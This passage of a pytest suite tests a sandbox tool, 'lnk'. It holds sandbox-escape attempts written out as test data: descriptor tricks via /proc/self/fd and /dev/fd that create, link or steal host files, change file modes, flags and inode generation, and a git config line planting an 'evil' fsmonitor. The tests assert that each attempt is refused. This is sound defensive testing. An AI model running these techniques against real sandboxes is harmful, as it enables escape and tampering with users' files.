    # lnk's own stdout is the test's pipe: the log reaches the program as
    # its stdin, which a shell inside makes its stdout
    with open(log, "ab") as out:
        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                     'exec "$0" -c "$1" 1>&0 0</dev/null', PY,
                     textwrap.dedent("""
            import os, sys
            for via in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"):
                for fl in (os.O_RDWR | os.O_CREAT, os.O_RDONLY | os.O_CREAT):
                    try:
                        fd = os.open(via, fl)
                        os.lseek(fd, 0, 0)
                        sys.stderr.write("READ %r\\n" % os.read(fd, 100))
                    except OSError as e:
                        sys.stderr.write("refused %d\\n" % e.errno)
            # writing, as the descriptor allows, still works
            fd = os.open("/dev/stdout", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
            os.write(fd, b"appended\\n")
        """), stdin=out, timeout=60)
    assert "hunter2" not in cp.stderr, cp.stderr
    assert "READ" not in cp.stderr, cp.stderr
    assert cp.stderr.count("refused") == 6, cp.stderr
    assert log.read_text() == "password=hunter2\nappended\n"


HOST_DIR_ATTACKS = {
    "create-dev-stdin": 'os.close(os.open("/dev/stdin/f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-dev-fd": 'os.close(os.open("/dev/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-proc-fd": 'os.close(os.open("/proc/self/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-dirfd": 'os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=0))',
    "create-fchdir": 'os.fchdir(0); os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "create-dotdot-beneath": 'os.close(os.open("/dev/fd/0/sub/../f", os.O_CREAT | os.O_WRONLY, 0o644))',
    "read-existing-creat": 'print("READ", os.read(os.open("/dev/fd/0/secret", os.O_RDONLY | os.O_CREAT), 100))',
    "write-existing-creat": 'os.write(os.open("/dev/fd/0/secret", os.O_WRONLY | os.O_CREAT), b"x")',
    "mkdir-git": 'os.mkdir("/dev/fd/0/.git")',
    "mkdir-sub": 'os.mkdir("/dev/stdin/newdir")',
    "mkdir-dirfd": 'os.mkdir("newdir", dir_fd=0)',
    "mkfifo": 'os.mkfifo("/dev/fd/0/fifo")',
    "symlink": 'os.symlink("/etc/passwd", "/dev/fd/0/l")',
    "link-in": 'open("t", "w").close(); os.link("t", "/dev/fd/0/l")',
    "link-out": 'os.link("/dev/fd/0/secret", "stolen")',
    "link-out-follow": 'os.link("/proc/self/fd/0/secret", "stolen", follow_symlinks=True)',
    "rename-in": 'open("t", "w").close(); os.rename("t", "/dev/fd/0/moved")',
    "rename-out": 'os.rename("/dev/fd/0/secret", "stolen")',
    "rename-within": 'os.rename("/dev/fd/0/secret", "/dev/fd/0/secret2")',
    "bind-unix": 'socket.socket(socket.AF_UNIX).bind("/dev/fd/0/sock")',
}


@pytest.mark.parametrize("way", sorted(HOST_DIR_ATTACKS))
def test_host_folder_descriptor_not_written(lnk, work, tmp_path, way):
    """Invariant 2 (writes), promise: a descriptor the program was given gives
    no more than its access: nothing is written, created, linked or read
    beneath it.

    Threat: a host folder given as a descriptor (fd 0 here; a shell
    cannot `< dir`, a program that starts lnk can): the guard creates,
    links, renames or binds beneath it, or opens what is in it, though no
    grant holds it (`mkdir /dev/fd/0/.git` in the host's folder)."""
    host = tmp_path / "hostdir"
    host.mkdir()
    (host / "sub").mkdir()
    (host / "secret").write_text("s3cret\n")
    before = sorted(p.name for p in host.rglob("*"))
    dfd = os.open(host, os.O_RDONLY | os.O_DIRECTORY)
    # Python will not start with a folder as its stdin: a shell inside
    # moves it to fd 3, and the program puts it back on 0.
    code = textwrap.dedent(f"""
        import os, socket
        os.dup2(3, 0)
        try:
            {HOST_DIR_ATTACKS[way]}
            print("DONE")
        except OSError as e:
            print("refused", e.errno)
    """)
    try:
        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                     'exec "$0" -c "$1" 3<&0 0</dev/null', PY, code,
                     stdin=dfd, timeout=60)
    finally:
        os.close(dfd)
    assert sorted(p.name for p in host.rglob("*")) == before, cp.stdout
    assert (host / "secret").read_text() == "s3cret\n"
    assert "s3cret" not in cp.stdout, cp.stdout
    assert not (work / "stolen").exists()
    assert "refused" in cp.stdout, cp.stdout + cp.stderr


def test_host_stdin_file_not_linked_into_write_folder(lnk, work, tmp_path):
    """Invariant 2 (writes), promise: a descriptor the program was given gives
    no more than its access: nothing is written, created, linked or read
    beneath it.

    Threat: the host file given as stdin given a name in the write
    folder (linkat AT_EMPTY_PATH, or /proc/self/fd/0 followed), where the
    program could then open it for writing by that name."""
    deploy = tmp_path / "deploy.sh"
    deploy.write_text("echo deploying\n")
    with open(deploy, "rb") as stdin:
        cp = py(lnk, """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            r = libc.linkat(0, b"", -100, b"stolen1", 0x1000)
            print("empty-path", r, ctypes.get_errno())
            for via in ("/proc/self/fd/0", "/dev/stdin", "/dev/fd/0"):
                try:
                    os.link(via, "stolen2", follow_symlinks=True)
                    print("LINKED", via)
                except OSError as e:
                    print("refused", via, e.errno)
        """, "--write", work, stdin=stdin)
    assert not (work / "stolen1").exists() and not (work / "stolen2").exists()
    assert "LINKED" not in cp.stdout and "empty-path -1" in cp.stdout, \
        cp.stdout + cp.stderr
    assert deploy.stat().st_nlink == 1


def test_tool_reopening_its_stdout_cannot_write_what_is_read_only(
        lnk, work, tmp_path):
    """Invariant 2 (writes), promise: a descriptor the program was given gives
    no more than its access: nothing is written, created, linked or read
    beneath it.

    Threat: the program hands a tool, as stdout and stderr, a file it
    may only read (a dot file at the top of its write folder, a --read
    file), opened read only; the tool, outside, writes to /dev/stdout or
    /dev/stderr (as many scripts' error paths do), which opens the file
    anew through /proc/self/fd, for writing, with the user's rights."""
    (work / ".git").mkdir()
    cfg = work / ".git" / "config"
    cfg.write_text("[core]\n")
    ro = tmp_path / "ro"
    ro.mkdir()
    (ro / "f").write_text("mine\n")
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\n"
                  "echo '[core] fsmonitor = evil' > /dev/stdout\n"
                  "echo '[core] fsmonitor = evil' >> /dev/stderr\n")
    cp = raw_py(lnk, f"""
        for p in (".git/config", {str(ro / "f")!r}):
            fd = os.open(p, os.O_RDONLY)
            r = call("mytool", os.getcwd(), [], fds=(0, fd, fd))
            print(p, r[:1].decode())
    """, "--write", work, "--read", ro, "--tool", "mytool *")
    assert cfg.read_text() == "[core]\n", (cp.stdout, cp.stderr)
    assert (ro / "f").read_text() == "mine\n", (cp.stdout, cp.stderr)
    assert cp.returncode == 0, cp.stderr


# =============================================================================
# F. Mode, owner and attributes of a file outside
#    Promise: a file outside the sandbox's mounts, held by descriptor, keeps
#    its mode, owner and attributes.
# =============================================================================


@pytest.mark.parametrize("grant", ["--read", "--write", None])
@pytest.mark.parametrize("call", ["os.fchmod(0, 0o777)",
                                  "os.chmod('/dev/stdin', 0o777)",
                                  "os.chmod('/proc/self/fd/0', 0o777)",
                                  "os.chmod(os.dup(0), 0o777)",
                                  "os.setxattr(0, 'user.lnk', b'1')"])
def test_host_file_given_as_stdin_keeps_its_mode(lnk, work, tmp_path, call,
                                                 grant):
    """Invariant 2 (writes), promise: a file outside the sandbox's mounts, held
    by descriptor, keeps its mode, owner and attributes.

    Threat: `lnk sandbox run ... < ~/bin/deploy.sh`: the program holds a
    read-only descriptor of a file outside every grant and makes it
    writable by every account (or gives it an ACL), so that another local
    user rewrites what the user runs next. The descriptor's access is all
    it was given: its mode, owner and attributes are not the program's."""
    outside = tmp_path / "outside"
    outside.mkdir()
    prog = outside / "deploy.sh"
    prog.write_text(HONEST)
    prog.chmod(0o700)
    grants = (grant, work) if grant else ()
    with open(prog) as f:
        cp = try_call(lnk, call, *grants, stdin=f)
    assert cp.returncode == 0, cp.stderr
    assert prog.stat().st_mode & 0o777 == 0o700, (call, cp.stdout)
    assert "done" not in cp.stdout, cp.stdout
    assert not os.listxattr(prog), os.listxattr(prog)


@pytest.mark.parametrize("call", ["os.fchmod(0, 0o666)",
                                  "os.chmod('/dev/stdin', 0o666)",
                                  "os.chown(os.dup(0), -1, 0)"])
def test_terminal_given_as_stdin_keeps_its_mode(lnk, work, call):
    """Invariant 2 (writes), promise: a file outside the sandbox's mounts, held
    by descriptor, keeps its mode, owner and attributes.

    Threat: without a pty of its own (its output is not a terminal),
    the program holds the user's terminal as its stdin; a mode of 0666
    would let every local account open it, read what is typed and inject
    input. The terminal is outside the sandbox's mounts: its mode and
    owner are not the program's."""
    master, slave = os.openpty()
    try:
        tty = os.ttyname(slave)
        before = os.stat(tty)
        cp = try_call(lnk, call, "--write", work, stdin=slave)
        after = os.stat(tty)
    finally:
        os.close(slave)
        os.close(master)
    assert cp.returncode == 0, cp.stderr
    assert "done" not in cp.stdout, cp.stdout
    assert (after.st_mode, after.st_uid, after.st_gid) == \
        (before.st_mode, before.st_uid, before.st_gid)


@pytest.mark.parametrize("how", sorted(SET_FLAGS))
@pytest.mark.parametrize("grant", ["--read", "--write", None])
def test_host_file_given_as_stdin_keeps_its_flags(lnk, work, tmp_path, how,
                                                  grant):
    """Invariant 2 (writes), promise: a file outside the sandbox's mounts, held
    by descriptor, keeps its mode, owner and attributes.

    Threat: `lnk sandbox run ... < ~/bin/deploy.sh`: the file's inode
    flags (chattr: nodump, noatime, sync) set through FS_IOC_FSSETXATTR or
    file_setattr(2) (FS_IOC_SETFLAGS was already refused): the program
    changes a file outside every grant (nodump hides it from backups)."""
    prog = flagged_file(tmp_path, "deploy.sh")
    before = file_flags(prog)
    grants = (grant, work) if grant else ()
    with open(prog) as f:
        cp = try_call(lnk, SET_FLAGS[how].format(fd=0), *grants, stdin=f)
    assert cp.returncode == 0, cp.stderr
    assert file_flags(prog) == before, (cp.stdout, hex(file_flags(prog)))
    assert "done" not in cp.stdout, cp.stdout


def test_files_below_a_folder_given_as_stdin_keep_their_flags(lnk, work,
                                                               tmp_path):
    """Invariant 2 (writes), promise: a file outside the sandbox's mounts, held
    by descriptor, keeps its mode, owner and attributes.

    Threat: `lnk sandbox run ... < ~/bin`: nothing is created or opened
    beneath a folder given by descriptor, but file_setattr(2) opens
    nothing: it would set the flags of any file below that folder by a
    path relative to the descriptor, past Landlock and the guard. A call
    newer than the filter's review answers ENOSYS."""
    prog = flagged_file(tmp_path, "deploy.sh")
    outside = prog.parent
    before = file_flags(prog)
    call = SET_FLAGS["file_setattr"].replace("b''", "b'deploy.sh'") \
        .replace("0x1000", "0").format(fd=3)
    code = f"import os\ntry:\n    {call}\n    print('done')\n" \
        "except OSError as e:\n    print('refused', e.errno)\n"
    d = os.open(outside, os.O_RDONLY | os.O_DIRECTORY)
    try:
        # python takes no folder as its stdin: the shell moves it to fd 3
        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                     f'exec 3<&0 </dev/null; exec {PY} -c "$0"', code,
                     stdin=d, timeout=60)
    finally:
        os.close(d)
    assert cp.returncode == 0, cp.stderr
    assert file_flags(prog) == before, (cp.stdout, hex(file_flags(prog)))
    assert "refused 38" in cp.stdout, cp.stdout  # ENOSYS


def test_host_file_given_as_stdin_keeps_its_generation(lnk, work, tmp_path):
    """Invariant 2 (writes), promise: a file outside the sandbox's mounts, held
    by descriptor, keeps its mode, owner and attributes.

    Threat: FS_IOC_SETVERSION (ext4's chattr -v) changes the inode's
    generation of a file outside the grants held by descriptor."""
    import fcntl
    import struct
    prog = tmp_path / "deploy.sh"
    prog.write_text(HONEST)

    def generation():
        fd = os.open(prog, os.O_RDONLY)
        try:
            return struct.unpack("l", fcntl.ioctl(fd, 0x80087601,
                                                  b"\0" * 8))[0]
        except OSError:
            pytest.skip("this file system has no inode generation ioctl")
        finally:
            os.close(fd)
    before = generation()
    for cmd in (0x40087602, 0x40086604):  # FS_IOC_, EXT4_IOC_SETVERSION
        with open(prog) as f:
            cp = try_call(lnk, f"import fcntl, struct; fcntl.ioctl(0, "
                          f"{cmd}, struct.pack('l', {before ^ 0x5a5a}))",
                          "--write", work, stdin=f)
        assert cp.returncode == 0, cp.stderr
        assert generation() == before, (hex(cmd), cp.stdout)
